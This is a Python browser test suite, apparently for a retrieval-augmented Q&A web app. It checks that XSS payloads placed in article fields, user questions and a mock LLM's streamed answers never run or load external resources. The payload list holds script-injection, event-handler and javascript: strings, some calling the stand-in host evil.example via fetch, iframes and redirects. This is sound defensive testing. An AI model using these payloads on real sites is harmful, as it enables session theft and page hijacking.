"""Hostile titles, bodies, sources and questions before a real browser: nothing runs, nothing foreign loads."""

from __future__ import annotations

import json
import re
import threading
from contextlib import ExitStack
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import product
from typing import TYPE_CHECKING

import pytest

from rag.assembly import sync_index
from rag.config import Settings
from tests.page.conftest import served

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.page.conftest import Open, Tab

EVIL = "http://evil.example"
PAYLOADS = [
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    '"><img src=x onerror={call}>',
    "' onmouseover={call} x='",
    "<a href=javascript:{call}>x</a>",
    "[x](javascript:{call})",
    f"![x]({EVIL}/{{call}}.png)",
    f"<img src={EVIL}/x.png>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<iframe src={EVIL}></iframe>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}></video>",
    "<math><mtext><img src=x onerror={call}></mtext></math>",
    "<style>@import '" + EVIL + "/x.css';</style>",
    "<base href=" + EVIL + ">",
    "<form action=" + EVIL + "><button>x</button></form>",
    "</textarea><script>{call}</script>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
]
CALLS = ("alert(1)", "fetch(`http://evil.example`)")
FOREIGN = "script, img, svg, iframe, style, link, base, form, video, math"
AT_A_TIME = 10
PLACES = ("title", "source", "body", "question", "model")
TEXTS = [payload.format(call=call) for payload, call in product(PAYLOADS, CALLS)]
ALL = list(product(TEXTS, PLACES))
ASKED = "第{}号展品共有多少件？"


def test_there_are_two_hundred_payloads_and_more() -> None:
    assert len(ALL) >= 200


class HostileModel(BaseHTTPRequestHandler):
    """A model that answers the question about the n-th exhibit with the n-th payload, in a stream."""

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        number = int(re.findall(r"第(\d+)号展品共有多少件", json.dumps(body, ensure_ascii=False))[-1])
        said = f"第{number}号展品共有{number + 100}件[1]。\n{TEXTS[number]}[1]。\n{TEXTS[number]}"
        delta = {"choices": [{"index": 0, "delta": {"content": said}, "finish_reason": "stop"}]}
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        self.wfile.write(f"data: {json.dumps(delta)}\n\ndata: [DONE]\n\n".encode())

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the name is the standard library's
        return


@pytest.fixture
def model() -> Iterator[str]:
    """The address of the hostile model."""
    with ExitStack() as stack:
        server = ThreadingHTTPServer(("127.0.0.1", 0), HostileModel)
        stack.callback(server.server_close)
        stack.callback(server.shutdown)
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}/v1"


@pytest.fixture(scope="module")
def hostile_index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An index of articles whose every field is hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    rows = []
    for number, text in enumerate(TEXTS):
        rows.append(
            {
                "id": f"h{number}", "title": f"第{number}号展品公告 {text}", "source": f"展览馆 {text}",
                "published": "2025-03-01",
                "text": f"第{number}号展品于三月开展，共有{number + 100}件。说明：{text}。第{number}号展品免费参观。",
            }
        )  # fmt: skip
    (folder / "rows.jsonl").write_text("\n".join(json.dumps(row, ensure_ascii=False) for row in rows), "utf-8")
    index: Path = folder / "index"
    sync_index(Settings(index=index), [folder / "rows.jsonl"], progress=lambda _: None)
    return index


@pytest.fixture
def hostile(hostile_index: Path) -> Iterator[str]:
    """A server over hostile articles."""
    with served(Settings(index=hostile_index)) as url:
        yield url


def test_no_payload_of_an_article_or_question_runs_or_loads_anything(opened: Open, hostile: str) -> None:
    tab = opened(url=hostile)
    ask_all(tab, [*map(ASKED.format, range(len(TEXTS))), *TEXTS])
    assert tab.faults == []


def test_no_payload_of_a_model_runs_or_loads_anything(opened: Open, hostile_index: Path, model: str) -> None:
    settings = Settings(index=hostile_index, llm="openai:hostile", llm_base_url=model, unsupported="mark", llm_helps=())
    with served(settings) as url:
        tab = opened(url=url)
        tab.ask(ASKED.format(0))
        # What a model says without support is shown all the same, as text.
        assert "alert(1)" in tab.last(".text")
        ask_all(tab, list(map(ASKED.format, range(len(TEXTS)))))
        assert tab.faults == []
        tab.page.close()


def ask_all(tab: Tab, questions: list[str]) -> None:
    """Ask, a few at a time, and look at what became of the page."""
    for start in range(0, len(questions), AT_A_TIME):
        for question in questions[start : start + AT_A_TIME]:
            tab.ask(question)
        if tab.page.locator("button.cite").count():
            tab.page.locator("button.cite").first.click()
            tab.page.wait_for_selector("#panel:not([hidden])")
        assert tab.page.locator(f":is(#turns, #panel-body) :is({FOREIGN})").count() == 0
        assert tab.page.locator("a[href^='javascript:' i]").count() == 0
        # A long conversation is slow to keep; what it showed has been looked at.
        tab.page.click("#fresh")
